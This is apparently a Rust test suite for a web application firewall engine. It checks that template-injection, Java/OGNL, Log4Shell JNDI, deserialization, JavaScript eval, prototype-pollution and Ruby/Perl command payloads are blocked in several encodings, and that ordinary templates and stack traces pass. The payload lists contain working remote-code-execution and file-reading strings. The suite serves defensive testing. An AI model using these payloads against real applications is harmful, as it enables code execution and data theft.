//! Attacks in the languages of applications and templates, through the whole engine with the default protections, in
//! every coding that applications take off; and what people honestly write about the same languages.
#![allow(clippy::unwrap_used, reason = "a test")]

use std::sync::{Arc, OnceLock};

use proptest::prelude::*;
use waf_detection::Engine;
use waf_detection::body::Completeness;
use waf_detection::budget::Budget;
use waf_detection::field::{Field, Place};
use waf_detection::inspection::{Bounds, Inspection, OnHit};
use waf_shared::catalog::{Leaf, LeafSet};

fn inspection() -> Inspection {
    static ENGINE: OnceLock<Arc<Engine>> = OnceLock::new();
    let engine = Arc::clone(ENGINE.get_or_init(|| Arc::new(waf_detection::rules::engine())));
    Inspection::new(engine, LeafSet::defaults(), Bounds::DEFAULT, OnHit::GoOn, Budget::UNLIMITED)
}

fn reset(inspection: &mut Inspection) {
    inspection.reset(LeafSet::defaults(), Bounds::DEFAULT, OnHit::GoOn, Budget::UNLIMITED);
}

/// The leaves that block `value` in `place`, or an empty list.
fn blocked(inspection: &mut Inspection, place: Place, name: &str, value: &[u8]) -> Vec<Leaf> {
    reset(inspection);
    inspection.field(&Field { place, name: name.as_bytes(), value });
    let verdict = inspection.verdict();
    if verdict.blocks() { verdict.leaves().iter().collect() } else { Vec::new() }
}

fn check_attacks(leaf: Leaf, attacks: &[&str]) {
    let mut inspection = inspection();
    let mut missed = Vec::new();
    for attack in attacks {
        for (place, name) in [
            (Place::Query, "name"),
            (Place::Json, "a.b"),
            (Place::Cookie, "c"),
            (Place::Header, "X-Api-Version"),
        ] {
            if place == Place::Query && attack.contains(['%', '+']) {
                continue;
            }
            if !blocked(&mut inspection, place, name, attack.as_bytes()).contains(&leaf) {
                missed.push(format!("{place}: {attack}"));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

const TEMPLATES: &[&str] = &[
    // Python: Jinja, Tornado, Mako, Django, format strings.
    "{{7*7}}",
    "{{ '7'*7 }}",
    "{{4*4}}[[5*5]]",
    "{{config.items()}}",
    "{{settings.SECRET_KEY}}",
    "{% debug %}",
    "{{ ().class.base.subclasses() }}",
    "{{().class.mro()[1].subclasses()}}",
    "{{ get_flashed_messages.__globals__.__builtins__.open(\"/etc/hosts\").read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{request['application']['\\x5f\\x5fglobals\\x5f\\x5f']['\\x5f\\x5fbuiltins\\x5f\\x5f']}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{{()|attr('__cla'+'ss__')}}",
    "{{ ''['__cla'+'ss__'] }}",
    "{{config.from_pyfile('/tmp/a.cfg')}}",
    "{{config['RUNCMD']('id',shell=True)}}",
    "{% import os %}{{ os.system('id') }}",
    "<%import os%>${os.popen('id').read()}",
    "${self.module.cache.util.os.system('id')}",
    "{% for e in [1] %}{{ ().__class__ }}{% endfor %}",
    "{user.__init__.__globals__[SECRET]}",
    "{{ messages.storages.0.signer.key }}",
    // PHP: Twig, Smarty.
    "{{['id']|map('passthru')}}",
    "{{['id',1]|sort('system')}}",
    "{{['error_reporting','1']|sort('ini_set')}}",
    "{{_self.env.setCache('ftp://203.0.113.5:2121')}}",
    "{{'/etc/hosts'|file_excerpt(1,30)}}",
    "{{dump(app)}}",
    "{{ {'id':'shell_exec'}|map('call_user_func') }}",
    "{php}echo 1;{/php}",
    "{system('id')}",
    "{$smarty.version}",
    "{if phpinfo()}{/if}",
    // Java: Freemarker, Velocity, Thymeleaf, EL, Groovy, Pebble.
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex('id')}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]",
    "${product.getClass().getProtectionDomain().getCodeSource()}",
    "#set($str=$class.inspect('java.lang.String').type)",
    "#set($ex=$rt.getRuntime().exec('id'))",
    "#set($out=$ex.getInputStream())",
    "$class.inspect('java.lang.Runtime').type",
    "${T(java.lang.System).getenv()}",
    "*{T(org.apache.commons.io.IOUtils).toString(1)}",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
    "${new org.codehaus.groovy.runtime.MethodClosure('calc','execute').call()}",
    "${new File('/etc/hosts').text}",
    "${'id'.execute().text}",
    "${session.setAttribute('a','b')}",
    "${pageContext.request.getSession().setAttribute('admin',true)}",
    "#{session.getAttribute('rtc').setAccessible(true)}",
    "{{ variable.getClass().forName('java.lang.Runtime') }}",
    "{% set cmd = (1).TYPE.forName('java.lang.Runtime') %}",
    // JavaScript: Handlebars, Pug, Nunjucks, EJS.
    "{{#with (lookup string.sub \"constructor\")}}{{/with}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process')\")()}}",
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "#{function(){a=global.process.mainModule.constructor._load;b=a('child_process').exec('id')}()}",
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    // Ruby and others: ERB, Slim, EEx, Razor, Go, ASP.
    "<%= Dir.entries('/') %>",
    "<%= `id` %>",
    "<%= IO.popen('id').readlines() %>",
    "#{File.read('/etc/hosts')}",
    "<%= elem(System.shell('id'), 0) %>",
    "@System.Diagnostics.Process.Start(\"cmd.exe\")",
    "@(2+3)",
    "{{ .System \"id\" }}",
    "<%= CreateObject(\"WScript.Shell\").exec(\"id\").StdOut.ReadAll() %>",
    "${{<%[%'\"}}%\\",
];

#[test]
fn template_expressions_are_blocked() {
    check_attacks(Leaf::TemplateInjection, TEMPLATES);
}

#[test]
fn java_is_blocked() {
    check_attacks(
        Leaf::JavaInjectionClassAndMethodNames,
        &[
            "java.lang.ProcessBuilder",
            "java.lang.Runtime",
            "javax.script.ScriptEngineManager",
            "java.io.FileInputStream",
            "java.lang.String",
            "org.apache.commons",
            "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
            "com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime.getRuntime().exec('id');\"); new java.io.File('a')",
            "\\u006aava.io.FileReader",
        ],
    );
    check_attacks(
        Leaf::JavaInjectionStruts2RuntimeExec,
        &[
            "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)",
            "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']",
            "Runtime.getRuntime().exec('id')",
            "println 'id'.execute().text",
            "''.getClass().forName('java.lang.Runtime').getMethods()[6]",
        ],
    );
    check_attacks(
        Leaf::JavaInjectionSerializedObjects,
        &[
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
            "\u{ac}\u{ed}\0\u{5}sr\0\u{11}java.util.HashMap",
            "aced0005737200116a6176612e7574696c",
            "org.apache.commons.collections.functors.ChainedTransformer",
            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
            "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'x'}",
        ],
    );
    check_attacks(
        Leaf::JavaInjectionLog4shell,
        &[
            "${jndi:ldap://203.0.113.5/a}",
            "${${lower:j}${upper:n}d${::-i}:ldap://203.0.113.5/a}",
            "${script:javascript:1}",
            "${${::-${::-$${::-j}}}}",
            "\\u0024\\u007bjndi:ldap://203.0.113.5/a}",
        ],
    );
}

#[test]
fn javascript_ruby_and_perl_are_blocked() {
    check_attacks(
        Leaf::JavascriptInjectionEval,
        &[
            "require('child_process').execSync('id')",
            "require('fs').readFileSync('/etc/hosts')",
            "global.process.mainModule.require('child_process')",
            "process.kill(process.pid)",
            "process.binding('spawn_sync')",
            "this.constructor.constructor('return process')().mainModule",
            "import('child_process').then(m => m.exec('id'))",
            "_$$ND_FUNC$$_function(){}()",
            "c\\u006fnsole.log(1)",
        ],
    );
    check_attacks(
        Leaf::JavascriptInfiniteLoops,
        &["while(true){}", "while(!0);", "for(;;){}", "do{}while(1)", "\\u0077hile(true);", "while(!'')"],
    );
    check_attacks(
        Leaf::JavascriptPrototypePollution,
        &[
            "__proto__[admin]=1",
            "a.constructor.prototype.b",
            "{\"__proto__\":{\"isAdmin\":true}}",
            "https://shop.example/#a=b&__proto__[x]=1",
            "\\u005f_proto__.x=1",
        ],
    );
    check_attacks(
        Leaf::RubyInjectionSystemCalls,
        &[
            "Process.spawn('id')",
            "Kernel.exec(\"id\")",
            "IO.popen('id').read",
            "--- !ruby/object:Gem::Installer\ni: x",
        ],
    );
    check_attacks(
        Leaf::PerlInjectionSystemCalls,
        &["@{[system 'id']}", "@{ [ do { `id` } ] }", "@{[CORE::time()]}"],
    );
}

#[test]
fn keys_and_names_are_judged() {
    let mut inspection = inspection();
    for (place, parent, name) in [
        (Place::QueryName, "", "__proto__[x]"),
        (Place::FormName, "", "constructor[prototype][x]"),
        (Place::JsonKey, "user", "__proto__"),
        (Place::JsonKey, "user.constructor", "prototype"),
        (Place::CookieName, "", "__proto__.x"),
    ] {
        let leaves = blocked(&mut inspection, place, parent, name.as_bytes());
        assert!(leaves.contains(&Leaf::JavascriptPrototypePollution), "{place} {name}");
    }
    let leaves = blocked(&mut inspection, Place::QueryName, "", b"java.io.File");
    assert!(leaves.contains(&Leaf::JavaInjectionClassAndMethodNames));
}

#[test]
fn codings_do_not_hide() {
    let mut inspection = inspection();
    let hexed = |text: &str, form: &dyn Fn(u8) -> String| text.bytes().map(form).collect::<String>();
    for (attack, leaf) in [
        ("{{ ''.__class__.__mro__ }}", Leaf::TemplateInjection),
        ("${T(java.lang.Runtime).getRuntime().exec('id')}", Leaf::TemplateInjection),
        ("java.lang.ProcessBuilder", Leaf::JavaInjectionClassAndMethodNames),
        ("while(true){}", Leaf::JavascriptInfiniteLoops),
        ("require('child_process').exec('id')", Leaf::JavascriptInjectionEval),
        ("@{[system 'whoami']}", Leaf::PerlInjectionSystemCalls),
    ] {
        let percent = hexed(attack, &|byte| format!("%{byte:02x}"));
        let base64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, attack);
        for (what, value) in [
            ("percent", percent.clone()),
            ("percent twice", percent.replace('%', "%25")),
            ("base64", base64.clone()),
            ("base64 without padding", base64.trim_end_matches('=').to_owned()),
            ("base64 of base64", base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &base64)),
            ("entities", hexed(attack, &|byte| format!("&#{byte};"))),
            ("unicode escapes", hexed(attack, &|byte| format!("\\u{byte:04x}"))),
            ("hexadecimal escapes", hexed(attack, &|byte| format!("\\x{byte:02x}"))),
        ] {
            let leaves = blocked(&mut inspection, Place::Query, "x", value.as_bytes());
            assert!(leaves.contains(&leaf), "{what}: {attack} {leaves:?}");
        }
    }
}

/// What people write, and programs send, that looks like the attacks above.
const EVERYDAY: &[(&str, &str)] = &[
    (
        "comment",
        "Exception in thread \"main\" java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"s\" is null\n\tat \
      com.example.shop.Cart.total(Cart.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:829)\nCaused by: java.io.IOException: closed\n\tat \
      java.io.RandomAccessFile.readLine(RandomAccessFile.java:392)\n\t... 3 more",
    ),
    (
        "comment",
        "How do I read a file line by line with java.io.RandomAccessFile? I tried new java.io.FileReader(\"a.txt\") and it throws.",
    ),
    (
        "comment",
        "In Java I would write Class.forName(\"com.mysql.cj.jdbc.Driver\") before getConnection, is this still needed today?",
    ),
    ("event.exception.type", "java.lang.IllegalStateException"),
    ("logger_name", "org.apache.commons.httpclient.HttpMethodBase"),
    ("stacktrace.frames.module", "java.lang.reflect.Method"),
    ("@class", "java.lang.Long"),
    ("type", "java.util.ArrayList"),
    ("properties.createdAt.javaType", "java.time.OffsetDateTime"),
    ("q", "java.io.RandomAccessFile"),
    ("java.version", "17.0.9"),
    ("dependency", "org.apache.commons:commons-lang3:3.14.0"),
    ("comment", "implementation 'org.apache.commons:commons-lang3:3.14.0'"),
    (
        "body",
        "Hi {{ first_name }}, your order {{ order.number }} from {{ order.date | date: '%d.%m.%Y' }} is on its way!",
    ),
    (
        "body",
        "{% for item in cart.items %}<li>{{ item.title }} x {{ item.quantity }}: {{ item.price | times: 2 | money }}</li>{% endfor %}",
    ),
    (
        "template",
        "<div v-for=\"x in items\" :key=\"x.id\">{{ x.name.toUpperCase() }} {{ x.price * 1.19 }}</div>",
    ),
    ("subject", "Re: {{ticket.id}} – {{ticket.subject}}"),
    (
        "workflow",
        "runs-on: ${{ matrix.os }}\nsteps:\n  - run: echo ${{ github.event.inputs.name }} ${{ secrets.TOKEN }}",
    ),
    ("script", "The target is ${DEST:-build} and there are ${#files[@]} files in it"),
    ("comment", "The LaTeX source is \\frac{1}{2} x^{2*n} + \\sum_{i=1}^{n} a_{i}"),
    (
        "comment",
        "In Ruby you write \"Hello #{user.name}, #{self.class.name}\" and in ERB <%= link_to 'Home', root_path %> instead.",
    ),
    (
        "comment",
        "Why does Rails escape <%= @post.body %> here? I used <%= raw @post.body %> and <% if @post.draft? %>draft<% end %> before.",
    ),
    ("comment", "f'{self.__class__.__name__}({self.name!r})' is what my __repr__ returns"),
    ("comment", "if __name__ == '__main__':\n    main()"),
    (
        "comment",
        "You have to write `const { data } = await axios.get(`/api/${id}`)` and then console.log(data)",
    ),
    ("comment", "process.env.NODE_ENV is undefined in my build"),
    ("define", "process.env.NODE_ENV"),
    ("comment", "The loop while (true) never ends, what do I do wrong?"),
    ("code", "int i = 0;\nwhile (i < 10) {\n  printf(\"%d\\n\", i++);\n}"),
    ("comment", "What is the difference between __proto__ and prototype in JavaScript?"),
    ("formatter", "function (params) { return params.name + ': ' + params.value; }"),
    ("comment", "Process the order, then require a signature (or two). IO is slow; the kernel. It works."),
    ("comment", "write to me @home {or at work} [soon]"),
    ("avatar", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="),
    ("attachment", "data:application/pdf;base64,JVBERi0xLjQKJcfs"),
    ("attachment", "data:text/csv;base64,YSxiCjEsMgo="),
    ("css", "a { color: #fff; } @media (min-width: 600px) { .b { width: calc(100% - 2*3px) } }"),
    ("comment", "Our dog ate {3} of the <%> things, 7*7=49 :-) #{winning}"),
    ("regex", "^[a-z]{2,4}\\d{1,3}$"),
    ("message", "#if you can read this (or not) #set your mind"),
    ("icon", "@(home) and @{user}"),
    ("format", "%{HOSTNAME:host} %{GREEDYDATA:message} *{x}"),
    ("helm", "{{ include \"app.fullname\" . }}-{{ .Values.env | default \"dev\" | quote }}"),
    ("ansible", "{{ lookup('env', 'HOME') }}/{{ item.path | basename }}"),
    ("alert", "{{ $labels.instance }} is down for {{ $value | humanizeDuration }}"),
    ("expression", "{{ states('sensor.temp') | float > 21.5 }}"),
];

#[test]
fn everyday_values_pass() {
    let mut inspection = inspection();
    let mut wrong = Vec::new();
    for (name, value) in EVERYDAY {
        for place in [Place::Json, Place::Form] {
            // A form writes `+` and `%` differently.
            let coded = value.replace('%', "%25").replace('+', "%2B");
            let bytes = if place == Place::Form { coded.as_bytes() } else { value.as_bytes() };
            let leaves = blocked(&mut inspection, place, name, bytes);
            if !leaves.is_empty() {
                let rules: Vec<_> = inspection.verdict().matches.iter().map(|found| found.rule.id).collect();
                wrong.push(format!("{place}:{name} {value:?}: {rules:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn raw_bodies_of_objects_are_blocked() {
    let mut inspection = inspection();
    for media_type in ["application/x-java-serialized-object", "text/plain", ""] {
        reset(&mut inspection);
        inspection.body(media_type.as_bytes());
        inspection.feed(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07");
        inspection.finish_body(Completeness::Whole);
        assert!(inspection.verdict().blocks(), "{media_type}");
    }
}

/// What the tokenizers look for, whole and torn.
const FRAGMENTS: &[&str] = &[
    "{{",
    "}}",
    "{%",
    "%}",
    "${",
    "#{",
    "@{",
    "{",
    "}",
    "<%",
    "%>",
    "<#assign ",
    ">",
    "#set(",
    ")",
    "(",
    "[",
    "]",
    "'",
    "\"",
    "`",
    "\\",
    ".",
    "|",
    "?new()",
    "*",
    "7",
    " ",
    "\n",
    "!!",
    "@",
    "java.lang.Runtime",
    "java.",
    "class.module.x",
    "getRuntime(",
    "__class__",
    "__proto__",
    "constructor",
    "prototype",
    "while(",
    "!",
    "for(;",
    "process.",
    "require(",
    "function(",
    "qx",
    "%x",
    "Process.spawn(",
    "send(:",
    "data:",
    ";base64,",
    ",",
    "::-",
    "jndi:",
    "lower:",
    "\u{e9}",
    "\0",
    "\u{1f600}",
    "=",
    "-",
    "/*",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_value_is_judged_within_its_bounds(parts in prop::collection::vec(prop::sample::select(FRAGMENTS), 0..60), torn in 0usize..4) {
        let value = parts.concat();
        let value = value.as_bytes().get(torn..).unwrap_or_default();
        let mut inspection = inspection();
        for place in [Place::Json, Place::FileName, Place::QueryName] {
            inspection.field(&Field { place, name: b"a.constructor", value });
        }
        for found in &inspection.verdict().matches {
            prop_assert!(!found.rule.id.is_empty() && found.excerpt.len() <= value.len() * 4 + 64);
        }
    }
}
